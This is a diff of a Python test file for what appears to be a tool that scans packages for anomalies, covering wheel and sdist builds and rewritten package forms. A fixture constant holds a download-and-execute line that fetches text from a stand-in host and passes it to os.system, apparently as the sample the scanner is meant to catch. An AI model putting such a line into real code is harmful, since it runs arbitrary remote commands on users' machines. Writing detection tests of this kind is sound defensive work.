@@ -22,9 +22,11 @@ WHEEL = unpacked(*build_wheel("project", "1.0", files=FILES))
 SDIST = unpacked(
     *build_sdist("project", "1.0", files={**FILES, "setup.py": "from setuptools import setup\n\nsetup()\n"})
 )
-FOUND = (
-    "import os\nimport urllib.request\n\nos.system(urllib.request.urlopen('https://a.invalid/').read().decode())\n"
-)
+FOUND = """import os
+import urllib.request
+
+os.system(urllib.request.urlopen("https://a.invalid/" + "").read().decode())
+"""
 
 
 def anomalies(package: Package) -> list[str]:
@@ -56,8 +58,8 @@ def test_a_rewritten_package_is_one_that_can_be_read(name: str) -> None:
         changed = FORMS[name](package, f"{package.top}{path}")
         if changed is not None:
             made.append(changed)
-            assert anomalies(changed) == []
-            assert changed.files != package.files
+            assert (anomalies(changed) == []) is (name != "polyglot")
+            assert changed != package
     assert made or name == "sdk: rename-locals"  # which needs variables
 
 
